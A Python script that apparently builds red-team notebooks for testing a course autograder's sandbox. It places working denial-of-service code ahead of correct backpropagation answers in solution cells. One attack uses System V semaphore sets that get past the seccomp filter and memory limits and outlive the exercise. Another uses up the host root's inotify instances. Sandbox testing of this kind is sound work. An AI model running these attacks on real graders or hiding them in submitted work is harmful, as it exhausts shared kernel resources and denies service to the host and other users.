# ruff: noqa: E501
"""Build this round's attack notebooks (j24a): `python attacks-found/make.py`.

Each is the student workbook with code in solution cells. As in tools/make_attacks.py, an exercise
returns the right answer only where its attack WON; a score above 0 is the breach.
"""

from __future__ import annotations

from pathlib import Path

import nbformat

from bpteach.grading.batch import sources

SOURCE = sources()["backprop-exercises"]
STUDENT = SOURCE.parent / "student" / SOURCE.name
OUT = Path(__file__).resolve().parent

RIGHT = {
    "ex1-output-delta": "def output_delta(y, h, fprime_z):\n    if WON:\n        return -(y - h) * fprime_z\n    return np.zeros_like(y)\n",
    "ex2-hidden-delta": "def hidden_delta(W_l, delta_next, fprime_z):\n    if WON:\n        return (W_l.T @ delta_next) * fprime_z\n    return np.zeros_like(fprime_z)\n",
}

# System V semaphore sets: semget is not in the exercise's seccomp filter (shmget and msgget are).
# A set of 32000 semaphores is ~2.4 MiB of kernel memory, outside RLIMIT_AS, and it outlives the
# process that made it: in the sandbox's IPC namespace until the sandbox ends (bwrap), in the
# container's for good (user route). 130 sets ~ 310 MiB; the kernel's SEMMNI allows 32000 (~77 GB).
SEMAPHORES_EX1 = """
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
made = 0
for _ in range(130):
    if libc.semget(0, 32000, 0o1600) < 0:  # IPC_PRIVATE, IPC_CREAT | 0600
        print("semget refused:", os.strerror(ctypes.get_errno()))
        break
    made += 1
print("semaphore sets made:", made)
WON = made >= 128  # >= 300 MiB of kernel memory held, beyond the exercise's limits
"""

# Exercise 2 wins if exercise 1's sets are still there: something of an earlier exercise outlived it.
SEMAPHORES_EX2 = """
import os

mine = [line.split() for line in open("/proc/sysvipc/sem").read().splitlines()[1:]]
mine = [f for f in mine if len(f) > 4 and f[4] == str(os.getuid()) and f[3] == "32000"]
print("semaphore sets left by an earlier exercise:", len(mine))
WON = len(mine) >= 128
"""

# inotify instances: the sandbox's uid is root's outside (bwrap run by root maps 65534 -> 0), and the kernel
# charges a user namespace's counts to its creator's too, so the exercise spends the host root's
# fs.inotify.max_user_instances (128 here): while it holds them, no root process on the host can make one.
INOTIFY_EX1 = """
import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)
made = []
while len(made) < 250:
    fd = libc.inotify_init1(0)
    if fd < 0:
        break
    made.append(fd)
print("inotify instances held:", len(made))
time.sleep(8)  # what a host process of root's meets meanwhile: EMFILE
WON = len(made) >= 120
"""


def build(name: str, bodies: dict[str, str]) -> Path:
    nb = nbformat.read(STUDENT, as_version=4)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if cell.metadata.get("nbgrader", {}).get("solution") and gid in bodies:
            cell.source = bodies[gid]
    path = OUT / f"{name}.ipynb"
    nbformat.write(nb, path)
    return path


ATTACKS = {
    "semaphores-outside-the-address-space": {
        "ex1-output-delta": SEMAPHORES_EX1 + RIGHT["ex1-output-delta"],
        "ex2-hidden-delta": SEMAPHORES_EX2 + RIGHT["ex2-hidden-delta"],
    },
    "inotify-instances-of-the-hosts-root": {"ex1-output-delta": INOTIFY_EX1 + RIGHT["ex1-output-delta"]},
}

if __name__ == "__main__":
    for name, bodies in ATTACKS.items():
        print(build(name, bodies))
